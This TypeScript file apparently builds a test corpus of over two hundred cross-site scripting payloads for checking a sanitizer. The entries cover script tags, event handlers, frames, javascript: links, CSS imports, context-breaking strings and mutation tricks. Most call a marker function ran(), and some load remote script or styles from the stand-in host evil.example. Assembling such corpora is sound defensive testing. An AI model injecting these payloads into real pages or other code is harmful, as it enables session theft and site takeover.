// Which texts have run as code in other people's pages? Two hundred of them, from every way a page
// can be made to run one.

/**
 * Every payload calls `ran()` or loads from evil.example, so that a page can tell whether one got
 * through.
 */
const scripts = [
  "<script>ran()</script>",
  "<script src=//evil.example/x.js></script>",
  "<SCRIPT>ran()</SCRIPT>",
  "<script\n>ran()</script\n>",
  "<script type=module>ran()</script>",
  "<script>ran()//",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "<script/x>ran()</script>",
  "<script defer>ran()</script>",
  "<svg><script>ran()</script></svg>",
  "<svg><script xlink:href=//evil.example/x.js /></svg>",
  "<math><mtext><script>ran()</script></mtext></math>",
  "<noscript><p title='</noscript><script>ran()</script>'>",
  "<template><script>ran()</script></template>",
  "<!--><script>ran()</script>-->",
  "<![CDATA[><script>ran()</script>]]>",
  "<?xml version='1.0'?><script>ran()</script>",
];
const handlers = [
  "<img src=x onerror=ran()>",
  "<img src=x onerror='ran()' />",
  '<img src="x" onerror="ran()">',
  "<img/src/onerror=ran()>",
  "<img src=x ONERROR=ran()>",
  "<img src=x onerror\n=\nran()>",
  "<img srcset=x onerror=ran()>",
  "<image src=x onerror=ran()>",
  "<svg onload=ran()>",
  "<svg/onload=ran()>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><set onbegin=ran() attributename=x>",
  "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
  "<svg><use href=//evil.example/x.svg#x /></svg>",
  "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
  "<body onload=ran()>",
  "<body onpageshow=ran()>",
  "<video><source onerror=ran()></video>",
  "<video src=x onerror=ran()></video>",
  "<audio src=x onerror=ran()></audio>",
  "<input autofocus onfocus=ran()>",
  "<textarea autofocus onfocus=ran()></textarea>",
  "<select autofocus onfocus=ran()></select>",
  "<details open ontoggle=ran()>",
  "<marquee onstart=ran()>x</marquee>",
  "<div style=animation-name:x onanimationstart=ran()></div>",
  "<div contenteditable autofocus onfocus=ran()>x</div>",
  "<p tabindex=1 autofocus onfocus=ran()>x</p>",
  "<xss id=x tabindex=1 onfocus=ran() autofocus></xss>",
  "<keygen autofocus onfocus=ran()>",
  "<link rel=stylesheet href=//evil.example/x.css onerror=ran()>",
  "<style onload=ran()></style>",
  "<iframe onload=ran()></iframe>",
  "<object data=x onerror=ran()></object>",
  "<embed src=x onerror=ran()>",
];
const frames = [
  "<iframe src=javascript:ran()></iframe>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<iframe src=//evil.example></iframe>",
  "<frameset onload=ran()>",
  "<object data=javascript:ran()></object>",
  "<object data=//evil.example></object>",
  "<embed src=javascript:ran()>",
  "<embed src=//evil.example>",
  "<portal src=//evil.example></portal>",
  "<applet code=//evil.example></applet>",
];
const links = [
  "<a href=javascript:ran()>x</a>",
  "<a href='java\tscript:ran()'>x</a>",
  "<a href='&#106;avascript:ran()'>x</a>",
  "<a href=' javascript:ran()'>x</a>",
  "<a href=JaVaScRiPt:ran()>x</a>",
  "<a href=data:text/html,<script>ran()</script>>x</a>",
  "<a href=vbscript:ran()>x</a>",
  "<a href=x onclick=ran()>x</a>",
  "<a href=# onmouseover=ran()>x</a>",
  "<base href=//evil.example/>",
  "<form action=javascript:ran()><button autofocus>x</button></form>",
  "<form action=//evil.example><input name=x></form>",
  "<button formaction=javascript:ran()>x</button>",
  "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "[x](javascript:ran())",
  "<javascript:ran()>",
];
const styles = [
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<div style=background:url(javascript:ran())>x</div>",
  "<div style='background:url(//evil.example/x)'>x</div>",
  "<div style=width:expression(ran())>x</div>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=import href=//evil.example>",
  "<link rel=prefetch href=//evil.example>",
];
const breakers = [
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  "</title><script>ran()</script>",
  "</textarea><script>ran()</script>",
  "</style><script>ran()</script>",
  "</script><script>ran()</script>",
  "</script><img src=x onerror=ran()>",
  "--><script>ran()</script>",
  "]]><script>ran()</script>",
  '" onmouseover=ran() x="',
  "' autofocus onfocus=ran() x='",
  '"}];ran();//',
  "');ran();//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
  "${ran()}",
  "{{constructor.constructor('ran()')()}}",
  "<%= ran() %>",
  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
  "&lt;script&gt;ran()&lt;/script&gt;",
  "&#60;script&#62;ran()&#60;/script&#62;",
  "%3Cscript%3Eran()%3C/script%3E",
  "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "<math><mi//xlink:href='data:x,<script>ran()</script>'>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
  "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
  "<select><template shadowrootmode=open><img src=x onerror=ran()></template></select>",
  "<table><td background=javascript:ran()>x</td></table>",
  "<ran()//",
];

const plain = [...scripts, ...handlers, ...frames, ...links, ...styles, ...breakers];
/** The same, out of places where a careless template would have put the text. */
const inside = [...scripts, ...handlers, ...frames, ...links].map(
  (payload) => `"'></title></script>${payload}`,
);
const dressed = plain.filter((payload) => payload.startsWith("<img") || payload.startsWith("<svg"));
const nested = dressed.map((payload) => `<b>bold ${payload}</b><!-- ${payload} -->`);

/** All different; at least two hundred. */
export const hostileHtml: string[] = [...new Set([...plain, ...inside, ...nested])];
